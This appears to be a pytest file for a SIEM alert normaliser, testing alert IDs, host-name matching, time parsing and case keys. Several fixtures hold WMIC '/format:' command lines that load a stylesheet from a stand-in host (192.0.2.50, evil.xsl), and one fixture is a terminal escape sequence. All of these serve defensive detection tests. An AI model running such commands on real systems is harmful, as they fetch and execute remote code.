"""What a row becomes: one identity, one machine or none, and no guess."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from datetime import UTC, datetime

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.model import Alert, Row
from runner.alerts import DEFAULT_FIELDS, AlertIds, case_key, make_alert, normalise_cmdline
from runner.hostname import Hosts, is_same_host, normalise_host

NOON = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
HIT: Row = {
    "_time": "2026-11-25T12:00:00.250+00:00",
    "_indextime": "1795608005",
    "Computer": "WS-7.example.test",
    "host": "WS-7",
    "user": "EXAMPLE\\ada",
    "cmdline": "wmic  os get /format:csv",
    "parent_process": "cmd.exe",
    "ProcessGuid": "{41C8662E-20D1-5F25-0000-0010583F0800}",
    "src_ip": "192.0.2.7",
}


def alert_of(
    row: Row,
    *,
    siem: str = "siem",
    search: str = "hits",
    identity: tuple[str, ...] = (),
    fields: Mapping[str, tuple[str, ...]] = DEFAULT_FIELDS,
) -> Alert:
    return make_alert(row, siem=siem, search=search, identity=identity, fields=fields)


def with_host(name: str) -> Alert:
    return alert_of({**HIT, "Computer": name, "host": name})


def test_make_alert_of_a_plain_row_reads_each_fact() -> None:
    alert = alert_of(HIT)
    assert alert.occurred_at == NOON.replace(microsecond=250_000)
    assert alert.indexed_at == datetime(2026, 11, 25, 12, 0, 5, tzinfo=UTC)
    assert (alert.host, alert.host_candidates) == ("WS-7.example.test", ())
    assert (alert.user, alert.parent) == ("EXAMPLE\\ada", "cmd.exe")
    assert alert.cmdline == "wmic  os get /format:csv"
    assert alert.process_guid == "{41C8662E-20D1-5F25-0000-0010583F0800}"
    assert alert.addresses == ("192.0.2.7",)
    assert alert.conflicts == ()
    assert alert.raw == HIT


def test_make_alert_with_fields_of_its_own_reads_those_first() -> None:
    alert = alert_of({**HIT, "machine": "WS-9"}, fields={"host": ("machine",)})
    assert alert.host == "WS-9"
    assert alert.user == "EXAMPLE\\ada"


# -- identity --------------------------------------------------------------------------------------

ADDRESS: Row = {"index": "main", "_bkt": "main~1", "_cd": "1:23", "_indextime": "1795608005"}


def test_alert_id_when_the_event_has_an_address_rests_on_it_alone() -> None:
    first = alert_of({**HIT, **ADDRESS})
    assert (
        alert_of({**HIT, **ADDRESS, "user": "changed by a lookup", "_serial": "9"}).id == first.id
    )
    assert alert_of({**HIT, **ADDRESS, "_cd": "1:24"}).id != first.id


def test_alert_id_with_configured_fields_rests_on_them() -> None:
    identity = ("ProcessGuid",)
    first = alert_of(HIT, identity=identity)
    assert alert_of({**HIT, "user": "bob"}, identity=identity).id == first.id
    assert alert_of({**HIT, "ProcessGuid": "{2}"}, identity=identity).id != first.id


def test_alert_id_when_a_configured_field_is_missing_tells_rows_apart_by_all_fields() -> None:
    identity = ("Computer", "ProcessGuid")
    one = alert_of({**HIT, "ProcessGuid": "-"}, identity=identity)
    other = alert_of({**HIT, "ProcessGuid": "-", "user": "bob"}, identity=identity)
    assert one.id != other.id


def test_alert_id_by_all_fields_leaves_out_what_changes_between_runs() -> None:
    first = alert_of({**HIT, "_serial": "0", "_si": ["a", "main"]})
    assert alert_of({**HIT, "_serial": "7", "_si": ["b", "main"]}).id == first.id
    assert alert_of({**HIT, "_time": "2026-11-25T12:00:01Z"}).id != first.id


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"a": "x", "b": "y"}, {"a": "xb", "": "y"}),
        ({"a": ["x", "y"]}, {"a": ["xy"]}),
        ({"a": ["x", "y"]}, {"a": ["xy", ""]}),
        ({"a": ["x", "y"]}, {"a": "x|y"}),
        ({"a": ["x"], "b": []}, {"a": [], "b": ["x"]}),
        ({"a": "\ud83d"}, {"a": "\\ud83d"}),
        ({"a": "\x00"}, {"a": "\\x00"}),
    ],
)
def test_alert_id_of_rows_that_differ_is_never_shared(one: Row, other: Row) -> None:
    assert alert_of(one).id != alert_of(other).id


def test_alert_id_names_the_siem_and_the_search() -> None:
    ids = {alert_of(HIT).id, alert_of(HIT, siem="two").id, alert_of(HIT, search="two").id}
    assert len(ids) == 3


# -- the machine -----------------------------------------------------------------------------------


def test_host_that_is_the_collector_gives_way_to_the_endpoints_own_name() -> None:
    alert = alert_of({**HIT, "host": "WEC-01"})
    assert alert.host == "WS-7.example.test"
    assert alert.host_candidates == ()
    (sentence,) = alert.conflicts
    assert "WEC-01" in sentence
    assert "WS-7.example.test" in sentence


@pytest.mark.parametrize(
    "missing",
    ["", " ", "-", "null", "(null)", "None", "N/A", "unknown", "(none)", [], ["-", ""]],
)
def test_host_that_means_missing_is_none(missing: str | list[str]) -> None:
    alert = alert_of({"host": missing, "cmdline": "wmic os get /format:csv"})
    assert (alert.host, alert.host_candidates) == (None, ())


@pytest.mark.parametrize("text", ["localhost", "127.0.0.1", "WS-1\nWS-2", "*", "WS 1", "a'b"])
def test_host_that_names_no_machine_is_none_and_noted(text: str) -> None:
    alert = alert_of({"host": text})
    assert alert.host is None
    assert "no machine's name" in alert.conflicts[0]


@pytest.mark.parametrize("row", [{"host": ["WS-1", "WS-2"]}, {"Computer": "WS-1", "dest": "WS-2"}])
def test_host_with_several_machines_is_none_with_candidates(row: Row) -> None:
    alert = alert_of(row)
    assert (alert.host, alert.host_candidates) == (None, ("WS-1", "WS-2"))
    assert "several machines" in alert.conflicts[0]


def test_host_in_several_spellings_of_one_machine_is_that_machine() -> None:
    alert = alert_of({"host": ["WS-1", "ws-1", "WS-1.example.test", "EXAMPLE\\WS-1$"]})
    assert (alert.host, alert.conflicts) == ("WS-1.example.test", ())


def test_host_that_is_an_address_is_an_address_and_no_name() -> None:
    alert = alert_of({"Computer": "WS-1", "dest": "192.0.2.9"})
    assert (alert.host, alert.addresses, alert.conflicts) == ("WS-1", ("192.0.2.9",), ())


@pytest.mark.parametrize(
    "spelling",
    [
        "WS-1",
        "ws-1",
        "ws-1.example.test",
        "ws-1.example.test.",
        "WS-1$",
        "EXAMPLE\\WS-1$",
        " WS-1 ",
    ],
)
def test_normalise_host_of_any_spelling_is_the_short_name(spelling: str) -> None:
    assert normalise_host(spelling) == "ws-1"
    assert is_same_host(spelling, "ws-1.example.test")


def test_is_same_host_with_two_domains_is_false() -> None:
    assert not is_same_host("ws-1.a.test", "ws-1.b.test")
    assert alert_of({"host": ["ws-1", "ws-1.a.test", "ws-1.b.test"]}).host is None


HOSTS = st.text(alphabet="aA1.$\\ :-", max_size=8) | st.sampled_from(
    (
        *("ws-1", "WS-1$", "EXAMPLE\\WS-1", "ws-1.a.test", "ws-1.A.test.", "ws-1.b.test", "ws-2"),
        *("192.0.2.1", "192.0.2.9", "2001:db8::1", "localhost", ".a.test", "", " ", "."),
    )
)


@given(st.lists(HOSTS, max_size=6), HOSTS)
def test_hosts_hold_a_name_exactly_when_it_is_the_same_host_as_one_of_them(
    names: list[str], name: str
) -> None:
    assert (name in Hosts(names)) == any(is_same_host(name, one) for one in names)


def test_hosts_of_a_flood_are_found_in_a_moment() -> None:
    """Ten thousand names against each other would be a hundred million readings."""
    names = [f"ws-{number}.example.test" for number in range(10_000)]
    hosts = Hosts()
    for name in names:
        assert name not in hosts
        hosts.add(name)
    assert all(name.upper() in hosts for name in names)


def test_device_id_with_two_sensors_is_none_and_noted() -> None:
    assert alert_of({"aid": "A1", "device_id": "a1"}).device_id == "A1"
    alert = alert_of({"aid": "a1", "device_id": "b2"})
    assert alert.device_id is None
    assert "several sensors" in alert.conflicts[0]


# -- the other facts -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1795608000", NOON),
        ("1795608000.123456789", NOON.replace(microsecond=123_456)),
        ("1.795608e+09", NOON),
        ("2026-11-25T09:00:00.123-03:00", NOON.replace(microsecond=123_000)),
        ("2026-11-25T12:00:00.123456789Z", NOON.replace(microsecond=123_456)),
        ("2026-11-25 12:00:00+0000", NOON),
        ("2026-11-25T12:00:00", None),
        ("2026-11-25 12:00:00 EDT", None),
        ("11/25/2026 12:00:00", None),
        ("NaN", None),
        ("1601-01-01T00:00:00Z", None),
        ("2026-02-30T00:00:00Z", None),
        ("9e99", None),
        ("١٧٩٥٦٠٨٠٠٠", None),
    ],
)
def test_time_of_a_row_is_one_instant_or_unknown(text: str, expected: datetime | None) -> None:
    alert = alert_of({"_time": text})
    assert alert.occurred_at == expected
    assert bool(alert.conflicts) is (expected is None)


def test_time_without_zone_is_read_only_where_the_field_says_utc() -> None:
    row: Row = {"_time": "2026-11-25 07:00:00", "UtcTime": "2026-11-25 12:00:00.000"}
    assert alert_of(row).occurred_at == NOON
    assert "cannot be read from _time" in alert_of(row).conflicts[0]


def test_time_given_twice_is_unknown() -> None:
    alert = alert_of({"_time": ["1795608000", "1795608001"]})
    assert alert.occurred_at is None
    assert alert.conflicts


@pytest.mark.parametrize("missing", ["", "null", []])
def test_time_that_is_missing_is_none(missing: str | list[str]) -> None:
    assert alert_of({"_time": missing}).occurred_at is None


def test_cmdline_that_another_field_holds_in_full_is_taken_from_there() -> None:
    alert = alert_of(
        {"process": "wmic os get", "cmdline": "WMIC OS get /format:http://192.0.2.50/a"}
    )
    assert alert.cmdline == "WMIC OS get /format:http://192.0.2.50/a"
    cut = alert_of({"cmdline": "wmic os get", "CommandLine": "wmic  os get /format:evil.xsl"})
    assert (cut.cmdline, cut.conflicts) == ("wmic  os get /format:evil.xsl", ())


def test_cmdline_that_another_field_contradicts_is_noted() -> None:
    alert = alert_of({"cmdline": "wmic os get /format:csv", "process": "wmic os get /format:a.xsl"})
    assert alert.cmdline == "wmic os get /format:csv"
    assert "/format:a.xsl" in alert.conflicts[0]


def test_cmdline_with_several_values_keeps_them_all() -> None:
    alert = alert_of({"cmdline": ["wmic os get", "/format:http://192.0.2.50/a"]})
    assert alert.cmdline == "wmic os get\n/format:http://192.0.2.50/a"
    assert alert.conflicts


def test_user_that_fields_spell_differently_is_no_conflict() -> None:
    assert alert_of({"user": "EXAMPLE\\ada", "User": "Ada"}).conflicts == ()
    assert "bob" in alert_of({"user": "EXAMPLE\\ada", "User": "bob"}).conflicts[0]


def test_addresses_are_addresses_of_a_machine_only() -> None:
    alert = alert_of(
        {"src_ip": ["192.0.2.7", "127.0.0.1", "2001:db8::7", "no address", "192.0.2.7"]}
    )
    assert alert.addresses == ("192.0.2.7", "2001:db8::7")


# -- cases -----------------------------------------------------------------------------------------


def test_case_key_of_a_repeat_is_the_same() -> None:
    repeat = {**HIT, "_time": "1795609000", "Computer": "ws-7.EXAMPLE.test."}
    assert case_key(alert_of({**repeat, "cmdline": " wmic os  get /format:csv "})) == case_key(
        alert_of(HIT)
    )


def test_case_key_tells_machines_and_command_lines_apart() -> None:
    keys = [
        case_key(alert_of(HIT)),
        case_key(alert_of(HIT, siem="two")),
        case_key(alert_of({**HIT, "cmdline": "wmic os get /format:xml"})),
        case_key(alert_of({**HIT, "cmdline": "wmic os get /format:csv\u00a0"})),
        case_key(alert_of({**HIT, "cmdline": "-"})),
        case_key(with_host("WS-7.a.test")),
        case_key(with_host("WS-8.example.test")),
        case_key(with_host("-")),
        case_key(alert_of({**HIT, "Computer": ["WS-1", "WS-2"]})),
        case_key(alert_of({**HIT, "Computer": ["WS-1", "WS-3"]})),
    ]
    assert len(set(keys)) == len(keys)


def test_normalise_cmdline_counts_blanks_once_and_changes_nothing_else() -> None:
    assert normalise_cmdline(" wmic \t os  get /format:A ") == "wmic os get /format:A"


# -- hostile rows ----------------------------------------------------------------------------------


def test_row_with_text_that_nothing_stores_is_kept_with_visible_escapes() -> None:
    alert = alert_of({"cmdline": "a\x00b\ud83d", "host": ["WS-1", "\ud83d"]})
    assert alert.cmdline == "a\\x00b\\ud83d"
    assert alert.raw == {"cmdline": "a\\x00b\\ud83d", "host": ["WS-1", "\\ud83d"]}
    assert msgspec.json.decode(msgspec.json.encode(alert), type=Alert) == alert


def test_conflicts_show_evidence_that_cannot_rewrite_a_terminal() -> None:
    alert = alert_of({"host": "\x1b[2J" + "x" * 500})
    assert alert.conflicts[0].isprintable()
    assert len(alert.conflicts[0]) < 250


ANYTHING = st.text(st.characters(codec=None))
NAMES = st.sampled_from(
    sorted({name for names in DEFAULT_FIELDS.values() for name in names} | {"_cd", "_bkt", "index"})
)
ROWS = st.dictionaries(NAMES | ANYTHING, ANYTHING | st.lists(ANYTHING, max_size=3), max_size=8)


@given(ROWS, st.lists(NAMES, max_size=2))
def test_make_alert_of_any_row_never_raises_and_can_be_stored(
    row: Row, identity: list[str]
) -> None:
    alert = alert_of(row, identity=tuple(identity))
    assert msgspec.json.decode(msgspec.json.encode(alert), type=Alert) == alert
    assert alert_of(row, identity=tuple(identity)) == alert
    assert case_key(alert)
    assert alert.host is None or not alert.host_candidates


def test_id_when_spelled_fast_then_it_is_the_documented_hash() -> None:
    """An id must never change: a known hit would be new. Spelled out here once more, as it was when
    the first journals were written."""
    values: list[str | list[str]] = ["plain", "", "Ünï ☃", "\ud800", ["a", "b:1:c"], [], "|1:2:ab"]
    for value in values:
        row: Row = {"host": "WS-1", "cmdline": value, "_time": "2026-11-24T16:00:00Z"}
        sha256 = hashlib.sha256(b"stockade-1")
        parts: list[list[str]] = [["splunk"], ["hits"]]
        for name in ("cmdline", "host", "_time"):
            given = row[name]
            parts += [[name], given if isinstance(given, list) else [given]]
        for texts in parts:
            sha256.update(f"|{len(texts)}".encode())
            for text in texts:
                encoded = text.encode("utf-8", "surrogatepass")
                sha256.update(f":{len(encoded)}:".encode() + encoded)
        assert AlertIds("splunk", "hits", ()).of(row) == sha256.hexdigest()
